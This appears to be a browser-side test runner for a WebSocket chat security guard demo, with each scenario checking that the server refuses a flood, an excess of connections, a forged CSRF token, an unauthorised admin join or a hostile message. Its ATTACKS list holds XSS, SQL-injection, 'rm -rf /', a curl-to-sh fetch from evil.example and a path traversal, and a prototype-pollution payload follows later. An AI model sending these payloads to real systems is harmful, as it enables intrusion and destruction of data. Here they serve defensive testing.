/* global crypto, btoa */
// One runner per scenario of the server's table (src/demo/scenarios.ts), each attacking the chat from this browser
// through real sockets. A runner resolves to `{ pass, outcome, codes }`: whether the guard answered as expected, what
// it answered (shown beside the expected outcome), and the reason codes seen.

import { csrfToken, emitAck, open, release, waitFor } from './sockets.js';

const ATTACKS = [
  ['xss', '<script>alert(document.cookie)</script>'],
  ['xss', '<img src=x onerror=alert(1)>'],
  ['sqli', "' OR '1'='1' --"],
  ['sqli', '1; DROP TABLE users; --'],
  ['cmdi', '; rm -rf / #'],
  ['cmdi', '$(curl -s http://evil.example/x.sh | sh)'],
  ['path', '../../../../etc/passwd'],
];
const HARMLESS = 'Select your favourite colour from the list, then drop by for tea';

function codeOf(reply) {
  return reply && reply.error ? reply.error.code : null;
}

function codesOf(...items) {
  const codes = new Set();
  for (const item of items.flat()) {
    const code = item && item.error ? item.error.code : item && item.connected === false ? item.code : null;
    if (code) codes.add(code);
  }
  return codes;
}

function summary(codes) {
  return codes.size === 0 ? 'nothing refused' : [...codes].join(', ');
}

/** A token of the right shape whose signature was never made with the server's secret. */
function forge(token) {
  const parts = token.split('.');
  const bytes = new Uint8Array(32);
  crypto.getRandomValues(bytes);
  parts[parts.length - 1] = btoa(String.fromCharCode(...bytes)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
  return parts.join('.');
}

async function connectAs(user) {
  return open({ user, token: await csrfToken(user) });
}

/**
 * ctx: `{ user(prefix) }` a fresh user name, `limits` (the server's DEMO_LIMITS), `holdMs` how long scenario
 * sockets live at least, `clientIp`, `banOf(key)` the ban the dashboard knows for a key, `refreshBans()`.
 */
export const RUNNERS = {
  async normal(ctx) {
    const user = ctx.user('alice');
    const conn = await connectAs(user);
    if (!conn.connected) return { pass: false, outcome: `connection refused: ${conn.code}`, codes: codesOf(conn) };
    const echoes = [];
    conn.socket.on('chat:message', (m) => {
      if (m.from === user) echoes.push(m);
    });
    const replies = [];
    for (let i = 1; i <= 3; i++) replies.push(await emitAck(conn.socket, 'chat:send', { text: `Hello #${i} from ${user}` }));
    await waitFor(() => echoes.length >= 3, 1000);
    await release([conn], ctx.holdMs);
    const delivered = replies.filter((r) => r && r.ok).length;
    const codes = codesOf(replies);
    return {
      pass: delivered === 3 && echoes.length === 3 && codes.size === 0,
      outcome: `${delivered} of 3 delivered, ${echoes.length} broadcast back; ${summary(codes)}`,
      codes,
    };
  },

  async burst(ctx) {
    const conn = await connectAs(ctx.user('flood'));
    if (!conn.connected) return { pass: false, outcome: `connection refused: ${conn.code}`, codes: codesOf(conn) };
    const replies = await Promise.all(Array.from({ length: 25 }, (_, i) => emitAck(conn.socket, 'chat:send', { text: `burst ${i + 1}` })));
    await release([conn], ctx.holdMs);
    const delivered = replies.filter((r) => r && r.ok).length;
    const refused = replies.filter((r) => r && r.error);
    const codes = codesOf(refused);
    const retry = refused.map((r) => r.error.retryAfterMs).find((v) => typeof v === 'number');
    return {
      pass: delivered >= 1 && delivered <= ctx.limits.burstLimit + 2 && refused.length >= 1 && codes.size === 1 && codes.has('message_rate_limited'),
      outcome: `${delivered} delivered, ${refused.length} refused: ${summary(codes)}${retry ? ` (retry in ${retry} ms)` : ''}`,
      codes,
    };
  },

  async connections(ctx) {
    const opened = [];
    const codes = new Set();
    // One user past its own cap…
    const user = ctx.user('hog');
    const token = await csrfToken(user);
    let userRefusal = null;
    for (let i = 0; i < ctx.limits.maxConnectionsPerUser + 3 && !userRefusal; i++) {
      const conn = await open({ user, token });
      if (conn.connected) opened.push(conn);
      else userRefusal = conn;
    }
    const userHeld = opened.length;
    // …then new users, each under its own cap, until the address is full.
    let ipRefusal = null;
    for (let i = 1; i <= ctx.limits.maxConnectionsPerIp + 3 && !ipRefusal; i++) {
      const other = `${user}-${i}`;
      const conn = await open({ user: other, token: await csrfToken(other) });
      if (conn.connected) opened.push(conn);
      else ipRefusal = conn;
    }
    await release(opened, ctx.holdMs);
    if (userRefusal) codes.add(userRefusal.code);
    if (ipRefusal) codes.add(ipRefusal.code);
    const pass = userRefusal?.code === 'too_many_connections_user' && ipRefusal?.code === 'too_many_connections_ip';
    return {
      pass,
      outcome:
        `${userHeld} open as ${user}, next: ${userRefusal ? userRefusal.code : 'accepted'}; ` +
        `${opened.length} open in all (plus the chat's), next: ${ipRefusal ? ipRefusal.code : 'accepted'}`,
      codes,
    };
  },

  async allowlist(ctx) {
    const conn = await connectAs(ctx.user('fuzz'));
    if (!conn.connected) return { pass: false, outcome: `connection refused: ${conn.code}`, codes: codesOf(conn) };
    const del = await emitAck(conn.socket, 'files:delete', { path: '/' });
    const evil = await emitAck(conn.socket, 'debug:eval', { code: 'process.exit(1)' });
    const chat = await emitAck(conn.socket, 'chat:send', { text: 'still here' });
    await release([conn], ctx.holdMs);
    const codes = codesOf([del, evil]);
    return {
      pass: codeOf(del) === 'event_not_allowed' && codeOf(evil) === 'event_not_allowed' && Boolean(chat && chat.ok),
      outcome: `files:delete: ${codeOf(del) ?? 'delivered'}, debug:eval: ${codeOf(evil) ?? 'delivered'}, chat:send: ${chat && chat.ok ? 'delivered' : codeOf(chat)}`,
      codes,
    };
  },

  async payloads(ctx) {
    const conn = await connectAs(ctx.user('mallory'));
    if (!conn.connected) return { pass: false, outcome: `connection refused: ${conn.code}`, codes: codesOf(conn) };
    const results = [];
    for (const [kind, text] of ATTACKS) {
      const reply = await emitAck(conn.socket, 'chat:send', { text });
      const details = reply && reply.error ? reply.error.details : undefined;
      const kinds = details ? [details.kind, ...(Array.isArray(details.kinds) ? details.kinds : [])] : [];
      results.push({ kind, reply, caught: codeOf(reply) === 'malicious_payload' && kinds.includes(kind) });
    }
    const proto = await emitAck(conn.socket, 'chat:send', JSON.parse('{"text":"hi","__proto__":{"isAdmin":true}}'));
    const harmless = await emitAck(conn.socket, 'chat:send', { text: HARMLESS });
    await release([conn], ctx.holdMs);
    const caught = results.filter((r) => r.caught);
    const byKind = {};
    for (const r of caught) byKind[r.kind] = (byKind[r.kind] ?? 0) + 1;
    const codes = codesOf([...results.map((r) => r.reply), proto]);
    return {
      pass: caught.length === ATTACKS.length && codeOf(proto) === 'prototype_pollution' && Boolean(harmless && harmless.ok),
      outcome:
        `${caught.length}/${ATTACKS.length} malicious_payload (${Object.entries(byKind).map(([k, n]) => `${k} ×${n}`).join(', ')}), ` +
        `__proto__: ${codeOf(proto) ?? 'delivered'}, harmless line: ${harmless && harmless.ok ? 'delivered' : codeOf(harmless)}`,
      codes,
    };
  },

  async csrf(ctx) {
    const user = ctx.user('csrf');
    const own = await csrfToken(user);
    const stolen = await csrfToken(ctx.user('victim'));
    const missing = await open({ user });
    const forged = await open({ user, token: forge(own) });
    const mismatch = await open({ user, token: stolen });
    const good = await open({ user, token: own });
    await release([good], ctx.holdMs);
    const codes = codesOf([missing, forged, mismatch]);
    const said = (o) => (o.connected ? 'connected' : o.code);
    return {
      pass: missing.code === 'csrf_missing' && forged.code === 'csrf_invalid' && mismatch.code === 'csrf_session_mismatch' && good.connected,
      outcome: `none: ${said(missing)}, forged: ${said(forged)}, another session's: ${said(mismatch)}, own: ${said(good)}`,
      codes,
    };
  },

  async admin(ctx) {
    const anonymous = await open({ namespace: '/admin' });
    const userName = ctx.user('bob');
    const user = await open({ namespace: '/admin', user: userName, token: await csrfToken(userName) });
    const adminName = ctx.user('admin');
    const admin = await open({ namespace: '/admin', user: adminName, token: await csrfToken(adminName) });
    const pong = admin.connected ? await emitAck(admin.socket, 'admin:ping') : null;
    await release([user, admin], ctx.holdMs);
    const codes = codesOf([anonymous, user]);
    const said = (o) => (o.connected ? 'joined' : o.code);
    return {
      pass: anonymous.code === 'unauthenticated' && user.code === 'namespace_forbidden' && admin.connected && Boolean(pong && pong.pong),
      outcome: `anonymous: ${said(anonymous)}, ${userName}: ${said(user)}, ${adminName}: ${said(admin)}${pong && pong.pong ? ' (ping answered)' : ''}`,
      codes,
    };
  },

  async oversized(ctx) {
    const conn = await connectAs(ctx.user('bulk'));
    if (!conn.connected) return { pass: false, outcome: `connection refused: ${conn.code}`, codes: codesOf(conn) };
    const big = await emitAck(conn.socket, 'chat:send', { text: 'x'.repeat(4096) });
    const next = await emitAck(conn.socket, 'chat:send', { text: 'a normal line after the big one' });
    await release([conn], ctx.holdMs);
    const details = big && big.error && big.error.details ? big.error.details : {};
    return {
      pass: codeOf(big) === 'message_too_large' && Boolean(next && next.ok),
      outcome:
        `${codeOf(big) ?? 'delivered'}${details.bytes ? ` (${details.bytes} bytes, limit ${details.limit})` : ''}; ` +
        `next message: ${next && next.ok ? 'delivered' : codeOf(next)}`,
      codes: codesOf([big]),
    };
  },

  async reconnect(ctx) {
    const user = ctx.user('churn');
    const token = await csrfToken(user);
    // A witness stays connected: when the ban lands, the guard closes this browser's sockets and tells each why.
    const witness = await open({ user, token });
    if (!witness.connected) return { pass: false, outcome: `connection refused: ${witness.code}`, codes: codesOf(witness) };
    let closedWith = null;
    witness.socket.on('wsguard:error', (error) => {
      closedWith = error;
    });
    let cycles = 0;
    let refusal = null;
    const limit = ctx.limits.reconnectThreshold * 3;
    while (cycles < limit && !closedWith && !refusal) {
      const conn = await open({ user, token });
      if (!conn.connected) {
        refusal = conn;
        break;
      }
      conn.socket.disconnect();
      cycles++;
      // Past the threshold, give the detector time to act before trying again: once banned, a new attempt would be
      // turned away before its handshake, which a browser reports as a failed WebSocket.
      await waitFor(() => closedWith, cycles >= ctx.limits.reconnectThreshold ? 2000 : 30);
    }
    witness.socket.disconnect();
    const answer = closedWith ?? refusal;
    const code = answer ? answer.code : null;
    await ctx.refreshBans();
    const ban = ctx.banOf(`ip:${ctx.clientIp}`);
    const codes = new Set(code ? [code] : []);
    return {
      pass: code === 'banned',
      outcome:
        `${cycles} short sessions, then ${code ? `the guard closed this browser's sockets: ${code}` : 'no ban'}` +
        (ban ? ` (${ban.key}, ${Math.max(0, Math.ceil((ban.expiresAt - Date.now()) / 1000))} s left)` : ''),
      codes,
    };
  },
};
